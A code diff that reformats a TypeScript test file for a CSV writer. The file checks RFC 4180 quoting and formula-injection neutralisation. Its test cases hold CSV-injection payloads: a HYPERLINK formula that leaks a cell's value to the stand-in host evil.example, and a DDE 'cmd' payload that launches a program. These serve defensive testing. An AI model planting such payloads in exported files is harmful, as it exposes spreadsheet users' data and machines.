@@ -7,7 +7,15 @@ const cell = (value: unknown) => writeCsv([{ v: value }], ['v'], { header: false
 
 describe('writeCsv', () => {
   it('writes a header and rows in column order, RFC 4180 quoting, CRLF after every line', () => {
-    expect(writeCsv([{ b: 2, a: 'x, "y"' }, { a: 'plain', b: null }], ['a', 'b'])).toBe('a,b\r\n"x, ""y""",2\r\nplain,\r\n');
+    expect(
+      writeCsv(
+        [
+          { b: 2, a: 'x, "y"' },
+          { a: 'plain', b: null },
+        ],
+        ['a', 'b'],
+      ),
+    ).toBe('a,b\r\n"x, ""y""",2\r\nplain,\r\n');
     expect(writeCsv([], ['a', 'b'])).toBe('a,b\r\n');
     expect(writeCsv([], ['a'], { header: false })).toBe('');
     expect(writeCsv([{ a: 'line\nbreak' }], ['a'], { header: false })).toBe('"line\nbreak"\r\n');
@@ -15,7 +23,7 @@ describe('writeCsv', () => {
 
   it.each([
     ['=', '=HYPERLINK("https://evil.example/?leak="&B2,"x")'],
-    ['+', '+1+cmd|\' /C calc\'!A0'],
+    ['+', "+1+cmd|' /C calc'!A0"],
     ['-', '-2+3'],
     ['@', '@SUM(A1:A9)'],
     ['a tab', '\t=1+1'],
@@ -30,10 +38,10 @@ describe('writeCsv', () => {
     expect(back).toBe(`'${value}`);
   });
 
-  it('catches a formula with a line break in it (papaparse\'s own escapeFormulae does not)', () => {
+  it("catches a formula with a line break in it (papaparse's own escapeFormulae does not)", () => {
     const value = '=HYPERLINK("https://evil.example","x")\nsecond line';
     expect(cell(value)).toBe(`"'${value.replaceAll('"', '""')}"\r\n`);
-    expect(Papa.unparse([[value]], { escapeFormulae: true })).not.toContain('\'=');
+    expect(Papa.unparse([[value]], { escapeFormulae: true })).not.toContain("'=");
   });
 
   it('leaves everything else as it is: numbers (negative too), dates, ordinary words, a formula sign inside', () => {
@@ -47,7 +55,7 @@ describe('writeCsv', () => {
     expect(CSV_FORMULA_LEAD.test('x=')).toBe(false);
   });
 
-  it('neutralises the header too, though the product\'s column names never need it', () => {
+  it("neutralises the header too, though the product's column names never need it", () => {
     expect(writeCsv([{ '=a': 1 }], ['=a'])).toBe('"\'=a"\r\n1\r\n');
   });
 });
